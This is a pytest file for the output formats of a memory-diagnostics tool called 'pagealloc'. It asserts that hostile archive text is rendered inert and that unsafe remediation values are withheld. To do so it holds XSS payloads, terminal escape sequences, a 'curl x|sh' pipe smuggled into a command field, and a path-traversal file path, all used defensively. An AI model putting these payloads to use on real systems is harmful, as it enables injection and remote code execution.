"""
The five output formats on the seed result: each shows the verdict and the
evidence, json/yaml carry the contract keys, and hostile archive text is
inert in every format (terminal escapes, markdown links, HTML/script).
"""

import doctest
import json
import re

import pytest
import yaml

import pagealloc.render.event_view
import pagealloc.render.html_report
import pagealloc.render.json_format
import pagealloc.render.markdown
import pagealloc.render.picture_view
import pagealloc.render.remediation
import pagealloc.render.summary
import pagealloc.render.text
import pagealloc.render.verdict_view
import pagealloc.render.yaml_format
from pagealloc.render import FORMATS, render
from tests.render.html_text import without_soft_markup
from tests.render.sample_result import REMEDIATION, SEED_RESULT, healthy_result, hostile_result

MODULES = (pagealloc.render.html_report, pagealloc.render.json_format, pagealloc.render.markdown,
           pagealloc.render.summary, pagealloc.render.text, pagealloc.render.yaml_format,
           pagealloc.render.picture_view, pagealloc.render.event_view, pagealloc.render.verdict_view)
CONTRACT_KEYS = {"host", "source", "verdicts", "memory_picture", "events", "errors", "pagealloc_version"}


def test_doc_examples():
    for module in MODULES:
        failed, _ = doctest.testmod(module, optionflags=doctest.ELLIPSIS)
        assert failed == 0, module.__name__


def test_json_is_one_document_with_the_contract_keys():
    data = json.loads(render(SEED_RESULT, "json"))
    assert CONTRACT_KEYS <= set(data)
    assert [(v["key"], v["type"]) for v in data["verdicts"]] == [
        ("MIN_FREE_KBYTES_LOW_ATOMIC_RX", "fail"), ("VMALLOC_FAILURE_NONE", "pass")]
    assert set(data["verdicts"][0]) >= {"rule", "key", "type", "details"}


def test_yaml_carries_the_same_data_as_json():
    assert yaml.safe_load(render(SEED_RESULT, "yaml")) == json.loads(render(SEED_RESULT, "json"))


def test_show_problems_drops_passes_in_every_format():
    data = json.loads(render(SEED_RESULT, "json", show="problems"))
    assert [v["type"] for v in data["verdicts"]] == ["fail"]
    for fmt in ("text", "markdown", "html"):
        assert "VMALLOC_FAILURE_NONE" not in render(SEED_RESULT, fmt, show="problems"), fmt
        assert "VMALLOC_FAILURE_NONE" in render(SEED_RESULT, fmt, show="all"), fmt


def test_text_starts_with_a_headline_in_words_and_shows_the_remediation_once():
    text = render(SEED_RESULT, "text")
    lines = text.splitlines()
    # 8192 is the seed result's recommendation, 2038 its running value
    assert " ".join(lines[:2]) == ("Network receive ran out of atomic memory reserve on web1: raise "
                                   "vm.min_free_kbytes from 2038 kB to 8192 kB")
    assert "MIN_FREE_KBYTES_LOW_ATOMIC_RX" not in "\n".join(lines[:lines.index("Details")])
    assert "       1  Normal      716    1908  below min" in lines
    assert "       1  DMA         992     124" in lines
    block = lines[lines.index("Fix: paste into a root shell") + 1:]
    assert block[:6] == [
        "",
        "printf '%s\\n' 'vm.min_free_kbytes = 8192' > /etc/sysctl.d/90-pagealloc-min-free-kbytes.conf",
        "sysctl -p /etc/sysctl.d/90-pagealloc-min-free-kbytes.conf",
        "sysctl vm.min_free_kbytes",
        "",
        "  The last command checks that it took effect: it prints vm.min_free_kbytes =",
    ]
    assert text.count("vm.min_free_kbytes = 8192'") == 1 and "sysctl -w" not in text
    assert "  - /etc/sysctl.conf sets 2038 kB: change or remove it (applied last)" in lines
    assert "  - TuneD profile hpc-compute sets 135168 kB: the new file overrides it" in lines
    assert "\x1b[" not in text


def test_text_colour_only_when_asked():
    assert render(SEED_RESULT, "text", colour=True).startswith("\x1b[1;31mNetwork receive ran out")
    assert render(healthy_result(), "text", colour=True).startswith("\x1b[1;32mNo problem found")


def test_healthy_result_says_no_problem_in_every_human_format():
    result = healthy_result()
    assert render(result, "text").startswith("No problem found on web1\n")
    assert render(result, "markdown").startswith("## No problem found on web1\n")
    assert '<h1 class="ok" id="verdict">No problem found on web1</h1>' in render(result, "html")


def test_short_shows_only_the_headline_and_the_remediation():
    for fmt in ("text", "markdown", "html"):
        full, short = render(SEED_RESULT, fmt), render(SEED_RESULT, fmt, short=True)
        assert "sysctl -p /etc/sysctl.d/90-pagealloc-min-free-kbytes.conf" in short, fmt
        assert "Memory picture" in full and "Memory picture" not in short, fmt
        assert "Why" in full and "Why" not in short, fmt
    assert render(SEED_RESULT, "text", short=True).splitlines()[2:4] == ["", "Fix: paste into a root shell"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_remediation_with_an_unexpected_shape_is_withheld(fmt):
    result = json.loads(json.dumps(SEED_RESULT))
    result["verdicts"][0]["details"]["remediation"]["runtime_command"] = "sysctl -w vm.min_free_kbytes=1; curl x|sh"
    out = render(result, fmt)
    if fmt in ("text", "markdown", "html"):
        assert "Withheld" in out or "withheld" in out
        assert "/etc/sysctl.d" not in out


def test_html_is_self_contained_with_two_charts():
    page = render(SEED_RESULT, "html")
    assert page.count("<svg") == 2
    assert "<script" not in page.lower() and "http-equiv=\"Content-Security-Policy\"" in page
    assert not re.search(r"""src=["']?(https?:)?//""", page)  # no external resource
    # links only to the rules' references, which this result has none of
    assert "href=" not in page
    # the Normal bar is red (free 716 < min 1908), the DMA bar blue
    assert '<title>free 716 kB</title>' in page and 'fill="#c33"><title>free 716 kB' in page
    assert 'fill="#37c"><title>free 992 kB' in page


def test_html_charts_scale_to_the_width():
    page = render(SEED_RESULT, "html")
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page
    svgs = re.findall(r"<svg [^>]*>", page)
    assert svgs and all("viewBox=" in tag and " width=" not in tag for tag in svgs)


HOSTILE = [
    '<script>document.title="pwned"</script>',
    '<img src=x onerror=alert(1)>',
    '[click me](javascript:alert(1))',
    '![x](https://evil.example/t.png)',
    '\x1b[2J\x1b]0;owned\x07',
    '| a | b |\n# heading\n```',
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_archive_text_is_inert_in_html(payload):
    page = render(hostile_result(payload), "html")
    assert "<script>" not in page and "<img" not in page and "onerror=alert" not in page.replace("onerror=alert(1)&gt;", "")
    assert 'href="javascript' not in page and "\x1b" not in page


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_archive_text_is_inert_in_markdown(payload):
    md = render(hostile_result(payload), "markdown")
    assert "<script" not in md and "<img" not in md and "\x1b" not in md
    assert "](" not in md.replace("\\](", "").replace("\\]\\(", "")  # no link/image syntax survives
    code_fences = [line for line in md.splitlines() if line.startswith("```")]
    assert len(code_fences) == 2  # only our remediation block
    assert not any(line.startswith("# heading") for line in md.splitlines())


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_archive_text_cannot_drive_the_terminal(payload):
    text = render(hostile_result(payload), "text")
    assert "\x1b" not in text and "\x07" not in text


def test_remediation_values_come_only_from_the_checked_shape():
    checked = pagealloc.render.remediation.safe_remediation(REMEDIATION)
    assert checked["path"] == "/etc/sysctl.d/90-pagealloc-min-free-kbytes.conf"
    evil = json.loads(json.dumps(REMEDIATION))
    evil["sysctl_d_file"]["path"] = "/etc/sysctl.d/../cron.d/x.conf"
    assert pagealloc.render.remediation.safe_remediation(evil) is None


def test_undecided_result_is_not_called_nothing_found():
    result = healthy_result()
    result["verdicts"] = [{"rule": "pagealloc.rules.min_free_kbytes_low_atomic_rx.report", "key": "INSUFFICIENT_DATA",
                           "type": "info", "details": {"reason": "reserve_unknown", "failures": {"count": 1},
                                                       "missing_inputs": ["min_free_kbytes"]},
                           "content": "Cannot tell."}]
    headline = ("Page allocation failures on web1, but not enough data to decide: collect "
                "/proc/sys/vm/min_free_kbytes (or sysctl -a)")
    assert " ".join(render(result, "text").split("\n\n")[0].split()) == headline
    assert '<h1 class="info" id="verdict">%s</h1>' % headline in without_soft_markup(render(result, "html"))
    assert "the running vm.min_free_kbytes or the kernel default is unknown" in " ".join(render(result, "text").split())


def test_unusable_inputs_and_errors_are_listed_as_notes_in_every_human_format():
    result = healthy_result()
    result["memory_picture"]["unusable_inputs"] = [{"input": "zoneinfo", "reason": "no 'min' line for zone Normal"}]
    result["errors"] = [{"component": "pagealloc.parsers.zoneinfo.ZoneInfo", "error": "ParseException: line 3"}]
    text = render(result, "text")
    assert "  - unusable input zoneinfo: no 'min' line for zone Normal" in text.splitlines()
    assert "  - pagealloc.parsers.zoneinfo.ZoneInfo: ParseException: line 3" in text.splitlines()
    assert "unusable input zoneinfo" in render(result, "html")
    assert "unusable input zoneinfo" in render(result, "markdown")


@pytest.mark.parametrize("payload,inert", [
    ("visit www.evil.example/x", "www\\.evil\\.example/x"),
    ("http://evil.example/x", "http\\://evil\\.example/x"),
    ("mail admin@evil.example", "admin@evil\\.example"),
])
def test_gfm_autolinks_cannot_form_in_markdown(payload, inert):
    md = render(hostile_result(payload), "markdown")
    assert inert in md
    assert payload.split()[-1] not in md


def test_rule_text_lines_cannot_become_lists_rules_or_headings_in_markdown():
    result = hostile_result("x")
    # a rule without its own words here: its CONTENT is shown, one paragraph per sentence
    result["verdicts"][0].update(key="SOME_OTHER_PLUGIN_KEY", content="- item.\n---.\n===.\n    indented code.\n1. first.")
    md = render(result, "markdown")
    assert "\n\n\\- item.\n\n\\---.\n\n\\===.\n\nindented code.\n\n1\\. first.\n" in md


def test_an_undecided_headline_with_many_missing_inputs_stays_short_and_lists_them_below():
    result = healthy_result()
    missing = ["kernel_release", "meminfo", "zoneinfo", "min_free_kbytes"]
    result["verdicts"] = [{"rule": "pagealloc.rules.min_free_kbytes_low_atomic_rx.report", "key": "INSUFFICIENT_DATA",
                           "type": "info", "details": {"reason": "reserve_unknown", "failures": {"count": 1},
                                                       "missing_inputs": missing},
                           "content": "Cannot tell."}]
    text = render(result, "text")
    headline = " ".join(text.split("\n\n")[0].split())
    assert headline == ("Page allocation failures on web1, but not enough data to decide: analyse the report "
                        "with the host's sosreport")
    flat = " ".join(text.split())
    assert "Not collected: " in flat and "/proc/zoneinfo" in flat and "/proc/sys/vm/min_free_kbytes" in flat


def test_inputs_a_finding_lists_as_not_collected_are_not_listed_again_under_the_picture():
    # A plain log's page: the undecided finding names what to collect; the memory picture used to name
    # the same inputs a second time. It now names only what the finding did not (here: nothing).
    result = healthy_result()
    missing = ["kernel_release", "meminfo", "zoneinfo", "min_free_kbytes"]
    result["memory_picture"]["missing_inputs"] = missing
    result["verdicts"] = [{"rule": "pagealloc.rules.min_free_kbytes_low_atomic_rx.report", "key": "INSUFFICIENT_DATA",
                           "type": "info", "details": {"reason": "reserve_unknown", "failures": {"count": 1},
                                                       "missing_inputs": missing},
                           "content": "Cannot tell."}]
    text = render(result, "text")
    assert text.count("/proc/zoneinfo") == 1 and text.count("Not collected") == 1
    result["memory_picture"]["missing_inputs"] = missing + ["transparent_hugepage/enabled"]
    text = " ".join(render(result, "text").split())
    assert text.count("/proc/zoneinfo") == 1
    assert "Also not collected: /sys/kernel/mm/transparent_hugepage/enabled." in text
